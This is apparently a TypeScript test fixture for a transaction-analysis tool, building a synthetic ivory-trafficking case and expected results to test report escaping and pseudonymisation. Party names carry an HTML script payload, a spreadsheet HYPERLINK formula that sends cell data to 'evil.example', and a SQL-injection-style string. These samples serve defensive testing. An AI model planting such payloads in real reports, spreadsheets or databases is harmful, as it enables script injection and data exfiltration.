import { createDataset } from "../../src/ingest/create-dataset.js";
import type { Dataset } from "../../src/model/dataset.js";

/** A party name that would run as a script if a report wrote it as HTML. */
export const HOSTILE_NAME = "<script>alert(1)</script>";
/** A name a spreadsheet would run as a formula. */
export const FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

/**
 * A small ivory case (CN buyer -> MY transit -> MZ forwarder -> TZ clearing agent -> cash),
 * with hostile names, and a results object shaped like the results.json contract.
 */
export function fixtureCase(): { dataset: Dataset; results: Record<string, unknown> } {
  const { dataset, quarantine } = createDataset({
    parties: [
      { id: "P-CN", kind: "person", name: "Li Wei", country: "CN", birth_date: "1975-06-01", id_number: "passport:CN:E12345678", phone: "+86 138 0013 8000" },
      { id: "P-MY", kind: "company", name: HOSTILE_NAME, country: "MY", sector: "freight forwarding", id_number: "registration_number:MY:201901000123" },
      { id: "P-MZ", kind: "company", name: "Pemba Marine Logistics Lda", country: "MZ", email: "ops@pemba-marine.example" },
      { id: "P-TZ", kind: "company", name: FORMULA_NAME, country: "TZ", address: "Plot 14 Bandari Rd, Dar es Salaam" },
      { id: "P-TZ2", kind: "person", name: "O'Neil \"Bwana\" Mkapa; DROP TABLE", country: "TZ" },
    ],
    accounts: [
      { id: "ACC-CN-01", holder: "P-CN", country: "CN", institution: "Bank of Shanghai" },
      { id: "ACC-MY-01", holder: "P-MY", country: "MY", institution: "Maybank" },
      { id: "ACC-MZ-01", holder: "P-MZ", country: "MZ", institution: "Millennium bim" },
      { id: "ACC-TZ-01", holder: "P-TZ", country: "TZ", institution: "CRDB Bank" },
      { id: "ACC-TZ-02", holder: "P-TZ2", country: "TZ", institution: "M-Pesa", type: "mobile_money" },
    ],
    relationships: [{ from: "P-TZ", to: "P-TZ2", type: "employs" }],
    transactions: [
      { id: "T1", date: "2024-01-08T09:15:00Z", amount: 48000, currency: "USD", from_account: "ACC-CN-01", to_account: "ACC-MY-01", reference: "INV 2024-007 marine products" },
      { id: "T2", date: "2024-01-09T14:02:00Z", amount: 47500, currency: "USD", from_account: "ACC-MY-01", to_account: "ACC-MZ-01", reference: `freight for ${HOSTILE_NAME}` },
      { id: "T3", date: "2024-01-10T08:40:00Z", amount: 46900, currency: "USD", from_account: "ACC-MZ-01", to_account: "ACC-TZ-01", reference: "clearing fees consignment 12" },
      { id: "T4", date: "2024-01-11T10:00:00Z", amount: 9800, currency: "USD", from_account: "ACC-TZ-01", to_account: "ACC-TZ-02", channel: "mobile_money", reference: "Li Wei says pay Mkapa" },
      { id: "T5", date: "2024-01-12T10:00:00Z", amount: 9500, currency: "USD", from_account: "ACC-TZ-02", channel: "cash_withdrawal" },
      { id: "T6", date: "2024-01-20T10:00:00Z", amount: 1200, currency: "USD", from_account: "ACC-TZ-02", to_account: "ACC-TZ-01", channel: "mobile_money", reference: "=1+1" },
    ],
  });
  if (quarantine.length > 0) throw new Error(`fixture has bad rows: ${JSON.stringify(quarantine)}`);
  const results = {
    schemaVersion: 1,
    summary: {
      transactions: 6,
      accounts: 5,
      parties: 5,
      relationships: 1,
      reports: 0,
      rowsRead: 18,
      quarantined: 1,
      quarantineEntries: 1,
      baseCurrency: "USD",
      period: { start: "2024-01-08T09:15:00.000Z", end: "2024-01-20T10:00:00.000Z" },
      totalAmount: 162900,
      channels: { wire: 3, mobile_money: 2, cash_withdrawal: 1 },
      sources: [],
      rules: { ran: ["pass_through", "high_risk_corridor"], skipped: [{ rule: "watchlist_link", reason: "no watchlist given" }] },
    },
    quarantine: [{ file: "transactions.csv", line: 9, field: "amount", code: "invalid_amount", message: `'12O0' is not a number (payer ${HOSTILE_NAME})` }],
    entities: [
      {
        id: "E1",
        members: ["P-TZ", "P-TZ2"],
        evidence: [{ rule: "shared_address", members: ["P-TZ", "P-TZ2"], values: ["Plot 14 Bandari Rd, Dar es Salaam"], score: 0.6 }],
        score: 0.6,
      },
    ],
    alerts: [
      {
        id: "A1",
        rule: "pass_through",
        typology: "pass_through",
        indicator: "FATF 2020: funds arrive and leave almost at once",
        severity: "high",
        score: 88,
        value: 0.99,
        threshold: 0.9,
        explanation: `${HOSTILE_NAME} (ACC-MY-01) passed on 99% of 48,000.00 USD within 1 day.`,
        accounts: ["ACC-MY-01"],
        parties: ["P-MY"],
        transactions: ["T1", "T2"],
        start: "2024-01-08T09:15:00.000Z",
        end: "2024-01-09T14:02:00.000Z",
      },
      {
        id: "A2",
        rule: "high_risk_corridor",
        typology: "high_risk_corridor",
        indicator: "Themis IWT toolkit: destination to source payments",
        severity: "medium",
        score: 64,
        value: ["CN", "MY", "MZ", "TZ"],
        threshold: null,
        explanation: "Li Wei paid along CN-MY-MZ-TZ, a known ivory route.",
        accounts: ["ACC-CN-01", "ACC-TZ-01"],
        parties: ["P-CN"],
        transactions: ["T1", "T2", "T3"],
      },
    ],
    scores: [
      { id: "ACC-MY-01", kind: "account", score: 88, rank: 1, reasons: ["A1"] },
      { id: "ACC-CN-01", kind: "account", score: 64, rank: 2, reasons: ["A2"] },
      { id: "P-CN", kind: "party", score: 64, rank: 3, reasons: ["A2"] },
    ],
    communities: [{ id: "C1", members: ["ACC-CN-01", "ACC-MY-01", "ACC-MZ-01", "ACC-TZ-01", "ACC-TZ-02"], size: 5, score: 77, summary: { amount: 162900 } }],
    flows: [
      {
        seed: "ACC-CN-01",
        direction: "forward",
        path: ["ACC-CN-01", "ACC-MY-01", "ACC-MZ-01", "ACC-TZ-01"],
        transactions: ["T1", "T2", "T3"],
        amount: 46900,
        countries: ["CN", "MY", "MZ", "TZ"],
        start: "2024-01-08T09:15:00.000Z",
        end: "2024-01-10T08:40:00.000Z",
      },
    ],
    corridors: [{ countries: ["CN", "MY", "MZ", "TZ"], amount: 46900, count: 1, examples: [["ACC-CN-01", "ACC-MY-01", "ACC-MZ-01", "ACC-TZ-01"]] }],
  };
  return { dataset, results };
}

/** Every personal value of the fixture: what must not survive pseudonymisation. */
export function originalIdentifiers(dataset: Dataset): string[] {
  const out = new Set<string>();
  for (const p of dataset.parties) {
    out.add(p.id);
    out.add(p.name);
    for (const a of p.aliases) out.add(a);
    for (const i of p.identifiers) out.add(i.value);
    for (const a of p.addresses) out.add(a.text);
    if (p.birthDate && p.kind === "person") out.add(p.birthDate);
  }
  for (const a of dataset.accounts) out.add(a.id);
  return [...out].filter((v) => v.length >= 3);
}
